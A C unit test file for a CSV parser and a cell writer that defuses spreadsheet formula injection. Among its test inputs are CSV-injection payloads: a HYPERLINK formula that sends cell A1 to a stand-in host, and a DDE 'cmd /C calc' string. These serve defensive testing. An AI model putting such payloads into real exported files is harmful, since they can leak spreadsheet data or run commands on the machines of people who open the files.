/*
 * test_csv: RFC 4180 records, line numbers, and recovery after errors;
 * the cell writer and its defusing of formulas.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "csv.h"
#include "util.h"

/* Read the next record and check it is exactly want[0..n) at line. */
static void
expect_record(struct csv_reader *r, size_t want_line, size_t n, ...)
{
	char **f = NULL, err[128];
	size_t got_n = 0, line = 0, i;
	va_list ap;

	assert_int_equal(csv_next(r, &f, &got_n, &line, err, sizeof(err)), 1);
	assert_int_equal(line, want_line);
	assert_int_equal(got_n, n);
	va_start(ap, n);
	for (i = 0; i < n; i++)
		assert_string_equal(f[i], va_arg(ap, const char *));
	va_end(ap);
}

static void
expect_error(struct csv_reader *r, size_t want_line, const char *what)
{
	char **f, err[128], want[32];
	size_t n, line = 0;

	err[0] = '\0';
	assert_int_equal(csv_next(r, &f, &n, &line, err, sizeof(err)), -1);
	assert_int_equal(line, want_line);
	snprintf(want, sizeof(want), "line %zu:", want_line);
	assert_non_null(strstr(err, want));
	assert_non_null(strstr(err, what));
}

static void
expect_end(struct csv_reader *r)
{
	char **f, err[128];
	size_t n, line;

	assert_int_equal(csv_next(r, &f, &n, &line, err, sizeof(err)), 0);
	assert_int_equal(csv_next(r, &f, &n, &line, err, sizeof(err)), 0);
}

static struct csv_reader *
mem(const char *s)
{
	return csv_open_mem(s, strlen(s));
}

static void
test_simple(void **state)
{
	struct csv_reader *r = mem("a,b,c\n1,2,3\n");

	(void)state;
	expect_record(r, 1, 3, "a", "b", "c");
	expect_record(r, 2, 3, "1", "2", "3");
	expect_end(r);
	csv_close(r);
	csv_close(NULL);
}

static void
test_quotes_crlf_blank(void **state)
{
	struct csv_reader *r = mem(
	    "\xef\xbb\xbfkey,name\r\n"
	    "\r\n"
	    "\"a, b\",\"say \"\"hi\"\"\"\r\n"
	    "\n"
	    ",,\n"
	    "\"\",x\n"
	    "last,no newline");

	(void)state;
	expect_record(r, 1, 2, "key", "name");		/* BOM skipped */
	expect_record(r, 3, 2, "a, b", "say \"hi\"");
	expect_record(r, 5, 3, "", "", "");
	expect_record(r, 6, 2, "", "x");
	expect_record(r, 7, 2, "last", "no newline");
	expect_end(r);
	csv_close(r);
}

static void
test_multiline(void **state)
{
	struct csv_reader *r = mem(
	    "id,text\n"
	    "1,\"first line\nsecond line\r\nthird\"\n"
	    "2,भदोही\n");

	(void)state;
	expect_record(r, 1, 2, "id", "text");
	expect_record(r, 2, 2, "1", "first line\nsecond line\r\nthird");
	expect_record(r, 5, 2, "2", "भदोही");
	expect_end(r);
	csv_close(r);
}

static void
test_errors_recover(void **state)
{
	struct csv_reader *r = mem(
	    "ok,1\n"
	    "bad\"quote,2\n"
	    "\"closed\"junk,3\n"
	    "bad\xc0\xaf" "utf8,4\n"
	    "lone\x80,5\n"
	    "ok,6\n"
	    "\"never closed,7\n"
	    "ok,8\n");

	(void)state;
	expect_record(r, 1, 2, "ok", "1");
	expect_error(r, 2, "quote");
	expect_error(r, 3, "closing quote");
	expect_error(r, 4, "UTF-8");
	expect_error(r, 5, "UTF-8");
	expect_record(r, 6, 2, "ok", "6");
	/* The unterminated quote is reported, and reading goes on after it. */
	expect_error(r, 7, "unterminated");
	expect_record(r, 8, 2, "ok", "8");
	expect_end(r);
	csv_close(r);
}

static void
test_nul_and_surrogate(void **state)
{
	static const char data[] = "a\0b,1\n\"\xed\xa0\x80\",2\nok,3\n";
	struct csv_reader *r = csv_open_mem(data, sizeof(data) - 1);

	(void)state;
	expect_error(r, 1, "UTF-8");
	expect_error(r, 2, "UTF-8");
	expect_record(r, 3, 2, "ok", "3");
	expect_end(r);
	csv_close(r);
}

static void
test_record_cap(void **state)
{
	size_t big = 70 * 1024, i;
	char *data = malloc(2 * big + 64), *p = data;
	struct csv_reader *r;

	(void)state;
	assert_non_null(data);
	p += sprintf(p, "a,");
	for (i = 0; i < big; i++)
		*p++ = 'x';
	p += sprintf(p, "\nok,2\n\"");
	for (i = 0; i < big; i++)
		*p++ = 'y';
	r = csv_open_mem(data, (size_t)(p - data));
	expect_error(r, 1, "64 KiB");
	expect_record(r, 2, 2, "ok", "2");
	expect_error(r, 3, "64 KiB");
	expect_end(r);
	csv_close(r);
	free(data);
}

static void
test_file(void **state)
{
	char path[] = "/tmp/test_csv_XXXXXX", err[256];
	struct csv_reader *r;
	int fd;

	(void)state;
	fd = mkstemp(path);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, "k,v\nx,\"y\"\n", 10), 10);
	close(fd);
	r = csv_open(path, err, sizeof(err));
	assert_non_null(r);
	expect_record(r, 1, 2, "k", "v");
	expect_record(r, 2, 2, "x", "y");
	expect_end(r);
	csv_close(r);
	unlink(path);

	err[0] = '\0';
	assert_null(csv_open("/nonexistent/dir/x.csv", err, sizeof(err)));
	assert_non_null(strstr(err, "/nonexistent/dir/x.csv"));

	/* An empty file has no records. */
	r = csv_open_mem("", 0);
	expect_end(r);
	csv_close(r);
}

/* One cell as csv_put_cell writes it. */
static void
expect_cell(const char *in, const char *want)
{
	struct buf b;

	buf_init(&b, 0);
	csv_put_cell(&b, in);
	assert_string_equal(buf_cstr(&b), want);
	buf_free(&b);
}

static void
test_cell_plain(void **state)
{
	(void)state;
	expect_cell(NULL, "");
	expect_cell("", "");
	expect_cell("loan bhadohi", "loan bhadohi");
	expect_cell("a,b", "\"a,b\"");
	expect_cell("say \"hi\"", "\"say \"\"hi\"\"\"");
	expect_cell("two\nlines", "\"two\nlines\"");
	expect_cell("\xe0\xa4\xb2\xe0\xa5\x8b\xe0\xa4\xa8", "\xe0\xa4\xb2\xe0\xa5\x8b\xe0\xa4\xa8");
	/* Formula characters inside a cell are harmless. */
	expect_cell("a=b+c-d@e", "a=b+c-d@e");
	expect_cell("12", "12");
	expect_cell("<5", "<5");
}

static void
test_cell_formula(void **state)
{
	(void)state;
	expect_cell("=HYPERLINK(\"http://x.example/?\"&A1,\"win\")",
	    "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"win\"\")\"");
	expect_cell("=1+1", "\"'=1+1\"");
	expect_cell("+91 98765", "\"'+91 98765\"");
	expect_cell("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\"");
	expect_cell("-2+3", "\"'-2+3\"");
	expect_cell("@SUM(A1)", "\"'@SUM(A1)\"");
	expect_cell("\t=1", "\"'\t=1\"");
	expect_cell("\r=1", "\"'\r=1\"");
	expect_cell("\n=1", "\"'\n=1\"");
	expect_cell("  =1", "\"'  =1\"");
	/* Full-width = + - @, which some spreadsheets fold to ASCII. */
	expect_cell("\xef\xbc\x9d" "1+1", "\"'\xef\xbc\x9d" "1+1\"");
	expect_cell("\xef\xbc\x8b" "1", "\"'\xef\xbc\x8b" "1\"");
	expect_cell("\xef\xbc\x8d" "1", "\"'\xef\xbc\x8d" "1\"");
	expect_cell("\xef\xbc\xa0" "x", "\"'\xef\xbc\xa0" "x\"");
	expect_cell("=", "\"'=\"");
	expect_cell("+", "\"'+\"");
	expect_cell("-", "\"'-\"");
	/* A number alone computes nothing: phones stay exact. */
	expect_cell("+919876500001", "+919876500001");
	expect_cell("-12", "-12");
	expect_cell("+91-", "\"'+91-\"");
	expect_cell("-1+1", "\"'-1+1\"");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_simple),
		cmocka_unit_test(test_quotes_crlf_blank),
		cmocka_unit_test(test_multiline),
		cmocka_unit_test(test_errors_recover),
		cmocka_unit_test(test_nul_and_surrogate),
		cmocka_unit_test(test_record_cap),
		cmocka_unit_test(test_file),
		cmocka_unit_test(test_cell_plain),
		cmocka_unit_test(test_cell_formula),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
